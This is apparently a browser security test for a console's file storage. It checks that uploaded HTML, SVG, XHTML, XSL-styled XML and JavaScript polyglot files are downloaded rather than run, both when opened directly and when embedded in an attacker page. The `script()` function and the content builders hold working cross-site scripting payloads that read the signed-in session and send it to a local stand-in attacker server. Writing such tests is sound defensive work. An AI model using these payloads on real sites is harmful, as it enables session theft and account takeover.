// Tests in a signed-in browser that stored content runs no script on the console's origin, whatever type its uploader announced, both
// when it is opened as a page and when an attacker's page embeds it. Prints what the browser did.
// @module-tag long
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { consoleScene } from '../../../console/console-scene.ts';

const scene = consoleScene();

/** Receives stolen sessions. It also serves the attacker's page, which browsers treat as the same site. */
let attacker: Server;
const stolen: string[] = [];
let attackersPage = '';

beforeAll(async () => {
  attacker = createServer((request, response) => {
    if (request.url !== '/') stolen.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    response.end(request.url === '/' ? attackersPage : '');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
});
afterAll(() => new Promise((resolve) => attacker.close(resolve)));

function attackersUrl(): string {
  return `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
}

/** Returns a script that reads the session and sends it to the attacker. */
function script(): string {
  return `document.title = 'ran'; fetch('${attackersUrl()}ran'); fetch('${scene.local.url}/v1/session', { credentials: 'include' }).then((r) => r.text()).then((t) => fetch('${attackersUrl()}stolen?' + encodeURIComponent(t)))`;
}

const answerModel = z
  .object({ run_id: z.string(), presigned_url: z.string(), upload_url: z.string().nullable() })
  .partial();

/** Sends a request below the namespace's path. */
async function send(method: 'POST' | 'PUT', path: string, body: object) {
  const headers = { authorization: `Bearer ${scene.local.api_key}`, 'content-type': 'application/json' };
  const url = `${scene.local.url}/v1/namespaces/${scene.local.namespace_id}/${path}`;
  const response = await fetch(url, { method, headers, body: JSON.stringify(body) });
  expect(response.ok, path).toBe(true);
  return answerModel.parse(await response.json());
}

async function put(url: string, type: string, content: string): Promise<void> {
  const response = await fetch(url, { method: 'PUT', headers: { 'content-type': type }, body: content });
  expect(response.status).toBe(200);
}

/** Uploads the content as a run's input, and returns its link from the organization's export. */
async function linkOfInput(type: string, content: string): Promise<string> {
  const run = await send('POST', 'plugins/echo_1_2_0/runs', { input: { format: 'jsonl' } });
  await put(run.presigned_url ?? '', type, content);
  return exportedLink(`runs/${run.run_id}/input`);
}

/** Publishes content as a model. */
async function linkOfModel(type: string, content: string): Promise<string> {
  const sha256 = createHash('sha256').update(content).digest('hex');
  const path = `models/model-${sha256.slice(0, 8)}`;
  const body = { sha256, size_bytes: content.length };
  const { upload_url } = await send('PUT', path, body);
  if (upload_url) await put(upload_url, type, content);
  await send('POST', `${path}/confirm`, body);
  return exportedLink(sha256);
}

async function exportedLink(key: string): Promise<string> {
  const headers = { authorization: `Bearer ${scene.local.api_key}` };
  const exported = await (await fetch(`${scene.local.url}/v1/organization/export`, { headers })).text();
  const lines = exported.split('\n').filter((line) => line !== '');
  const objects = lines.map((line) => Object(JSON.parse(line)).object).filter((object) => object?.key.includes(key));
  expect(objects).toHaveLength(1);
  return objects[0].url;
}

const html = () => `<!doctype html><script>${script()}</script>`;
const svg = () => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script()}]]></script></svg>`;
const xhtml = () =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[${script()}]]></script></head></html>`;
const stylesheet = () =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><script><xsl:text disable-output-escaping="yes"><![CDATA[${script()}]]></xsl:text></script></html></xsl:template></xsl:stylesheet>`;
const styledXml = async () => {
  const href = (await linkOfInput('text/xsl', stylesheet())).replaceAll('&', '&amp;');
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${href}"?><page/>`;
};
/** Returns a text that is both a page and a script. */
const polyglot = () => `/*<script>*/ ${script()} /*</script>*/`;

const contents: [what: string, link: () => Promise<string>][] = [
  ['HTML', () => linkOfInput('text/html', html())],
  ['SVG', () => linkOfInput('image/svg+xml', svg())],
  ['XHTML', () => linkOfInput('application/xhtml+xml', xhtml())],
  ['XML with a stylesheet', async () => linkOfInput('text/xml', await styledXml())],
  ['a script', () => linkOfInput('text/javascript', polyglot())],
  ['a model that is a page and a script', () => linkOfModel('text/javascript', polyglot())],
];

/** Opens a page that records requests for the session. */
async function watchedPage(): Promise<{ page: Page; asked: string[] }> {
  const page = await scene.signedInPage();
  const asked: string[] = [];
  page.context().on('request', (request) => {
    if (request.url().endsWith('/v1/session')) asked.push(request.frame().url());
  });
  stolen.length = 0;
  return { page, asked };
}

describe.each(contents)('%s', (what, link) => {
  test('stored content is downloaded when its link is opened', async () => {
    const url = await link();
    const { page, asked } = await watchedPage();
    const download = page.waitForEvent('download');
    await page.goto(url).catch(() => undefined);
    expect((await download).url()).toBe(url);
    expect({ asked, stolen }).toEqual({ asked: [], stolen: [] });
    process.stdout.write(`${what}, opened: saved as ${(await download).suggestedFilename().slice(0, 8)}…\n`);
  });

  test("stored content runs nowhere in an attacker's page", async () => {
    const url = (await link()).replaceAll('&', '&amp;');
    attackersPage = `<!doctype html><title>attack</title><body><iframe src="${url}"></iframe><img src="${url}"><object data="${url}"></object><embed src="${url}"><link rel="stylesheet" href="${url}"><script src="${url}" onerror="this.id = 'refused'"></script></body>`;
    const { page, asked } = await watchedPage();
    await page.goto(attackersUrl(), { waitUntil: 'load' });
    await page.locator('script#refused').waitFor({ state: 'attached' });
    expect(await page.title()).toBe('attack');
    expect({ asked, stolen }).toEqual({ asked: [], stolen: [] });
    process.stdout.write(`${what}, embedded: the script is refused, ${page.frames().length - 1} frames stay empty\n`);
  });
});
